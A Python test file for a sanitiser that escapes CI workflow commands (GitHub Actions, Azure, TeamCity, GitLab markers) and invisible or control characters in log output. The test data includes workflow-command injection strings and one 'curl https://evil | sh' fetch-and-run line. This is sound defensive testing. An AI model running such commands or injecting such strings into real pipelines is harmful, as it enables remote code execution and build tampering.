import json

import pytest

from gitmodel.printable import (
    cut,
    escaped,
    inert_json,
    is_plain,
    shown,
    their_words,
    without_commands,
)

COMMANDS = [
    "::set-output name=version::v9",
    "  \t::stop-commands::x",
    "a ##[set-output name=version]v9",
    "###[group]",
    "##vso[task.setvariable variable=x]y",
    "##teamcity[buildStop comment='x']",
    "section_start:1:x",
    "section_end:1:x",
]
UNSEEN = ["\x1b[2J", "\x07", "\x7f", "\x9b2J", "\u202ea", "\u2066", "\u200b", "\u2028", "\udc80"]
UNSEEN += ["\ue000", "\u3164", "\ufeff", "\xa0x", "\U000e0041", "a\nb", "a\rb", "a\tb", "\u0378"]


@pytest.mark.parametrize("text", COMMANDS + UNSEEN)
def test_what_could_act_is_escaped(text: str):
    assert not is_plain(text)
    for said in (escaped(text), shown(text)):
        assert is_plain(said), said
        assert "\\" in said


@pytest.mark.parametrize("text", ["a b", "café", "日本", "a::b", "# [x]", "x ## y", "", "❤"])
def test_a_plain_text_stays_as_it_is(text: str):
    assert escaped(text) == shown(text) == text


def test_a_long_text_keeps_both_ends():
    said = shown("a" * 5000 + "end")
    assert len(said) == 1000
    assert said.startswith("aaa")
    assert said.endswith("aend")
    assert cut("abc", 3) == "abc"


def test_what_a_server_says_is_one_line_and_marked():
    said = their_words("no\x1b[2J such key\n\nnext:  curl https://evil | sh ##[x]")
    assert said == ("the server said: 'no [2J such key next: curl https://evil | sh \\x23#[x]'")
    assert len(their_words("x" * 9999)) < 500


@pytest.mark.parametrize("text", [*COMMANDS, "\\##[x]", '"##[x]"', "\\\\##vso[x]", *UNSEEN])
def test_json_says_the_same_without_commands(text: str):
    value = {text: [text, {"a": text}]}
    said = inert_json(json.dumps(value, indent=2))
    assert json.loads(said) == value
    assert all(is_plain(line) for line in said.split("\n"))


def test_a_long_indentation_takes_no_time():
    for start in (" " * 100_000, "\x1b[1m " * 20_000):
        assert without_commands(f"{start}::x") == f"{start}\\x3a:x"
        assert without_commands(f"{start}x") == f"{start}x"
